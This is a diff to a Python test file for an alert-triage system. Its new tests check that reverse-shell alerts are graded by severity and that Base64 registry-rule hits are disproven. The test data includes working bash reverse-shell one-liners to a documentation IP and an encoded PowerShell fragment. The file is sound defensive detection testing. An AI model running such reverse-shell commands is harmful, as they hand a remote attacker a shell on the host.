@@ -987,3 +987,29 @@ def test_command_output_in_a_response_between_two_of_ours_needs_triage_not_conta
     record["flow"] = {**record.get("flow", {}), "src_ip": client, "dest_ip": "10.20.5.5"}
     threat, = _ingest("suricata", record)
     assert threat.severity == band
+
+
+@pytest.mark.parametrize("command,band", [
+    ('bash -c until echo > /dev/tcp/orders-db/5432; do echo "waiting"; sleep 2; done', "LOW"),
+    ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "HIGH"),
+    ("bash -c 'exec 5<>/dev/tcp/203.0.113.9/443; cat <&5 | sh >&5'", "HIGH"),
+])
+def test_a_reverse_shell_rule_on_a_socket_no_shell_is_wired_to_is_a_port_probe(command, band):
+    alert = _elastic(f"rs-{len(command)}", "Potential Reverse Shell Activity via Terminal", "T1059.004", "high",
+                     event={"kind": "signal", "category": ["process"], "type": ["start"]}, host={"name": "k8s-node-3"},
+                     process={"name": "bash", "executable": "/usr/bin/bash", "command_line": command})
+    threat, = _ingest("ecs", alert)
+    assert threat.severity == band
+    assert (threat.false_positive["recommendation"] == "likely_false_positive") is (band == "LOW")
+
+
+@pytest.mark.parametrize("data,disproven", [("1", True), ("SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", False)])
+def test_a_base64_rule_on_a_value_too_short_to_encode_anything_is_disproven(data, disproven):
+    command = f'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU" /v X /t REG_SZ /d {data} /f'
+    threat, = _ingest("wazuh", {**_sysmon_process(f"1.b64{len(data)}", "C:\\Windows\\System32\\reg.exe", command,
+                                                  "C:\\Windows\\System32\\cmd.exe"),
+                                "rule": {"level": 10, "id": "92041", "groups": ["sysmon", "windows"],
+                                         "description": "Value added to registry key has Base64-like pattern",
+                                         "mitre": {"id": ["T1027", "T1112"]}}})
+    assert ("not_base64" in [f.get("rule") for f in threat.risk_factors]) is disproven
+    assert (threat.false_positive["recommendation"] == "likely_false_positive") is disproven
